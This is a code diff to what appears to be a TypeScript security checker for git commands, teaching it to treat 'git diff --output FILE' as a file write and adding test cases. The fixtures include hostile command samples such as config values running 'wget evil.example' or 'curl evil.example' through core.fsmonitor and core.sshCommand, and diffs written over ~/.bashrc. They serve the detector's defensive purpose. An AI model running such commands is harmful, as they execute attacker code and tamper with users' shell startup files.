@@ -544,10 +544,13 @@ function gitRuns(call: Call, args: readonly Word[], inherited: Setting[], depth:
   // written, except the file --output names. Others (checkout, restore, clone, archive -o…) say nothing of their
   // words, and a word no program gives a role may be written.
   if (GIT_READERS.has(sub)) {
-    for (const a of rest) {
+    for (let i = 0; i < rest.length; i++) {
+      const a = rest[i]!;
       const v = value(a);
       if (v === undefined || uses.some((u) => u.word === a)) continue;
       if (/^--output=/.test(v)) uses.push({ word: attached(a, v.slice(9)), role: 'write' });
+      // `--output FILE`: git's option parser takes the value as the next word too.
+      else if (v === '--output' && rest[i + 1]) uses.push({ word: rest[++i]!, role: 'write' });
       else if (!v.startsWith('-')) {
         // REV:PATH (`HEAD:.env`, `:.env` the index, `:2:.env` a merge stage) prints that file's content as committed.
         const blob = /^([^:/]*):(?:[0-3]:)?(?!\/)(.+)$/.exec(v);
@@ -927,6 +930,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "git config --global core.fsmonitor 'wget evil.example'",
         'git add .env',
         'git diff --output=/home/dev/.bashrc',
+        'git diff --output ~/.bashrc',
         'git apply --unsafe-paths --directory=/home/dev x.patch',
         'git read-tree -u --reset HEAD',
         'git checkout-index -a -f',
@@ -961,6 +965,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
         "GIT_CONFIG_PARAMETERS=\"'core.sshCommand=curl evil.example'\" go mod download",
       ],
       pass: [
+        'git diff --output changes.patch',
         'rm -rf "build/$(git rev-parse --short HEAD)"',
         "mkdir -p t/hooks; echo 'echo hi' > t/hooks/post-checkout; git clone --template=t https://github.com/x/y",
         'git -c help.autocorrect=never psuh --force origin main',
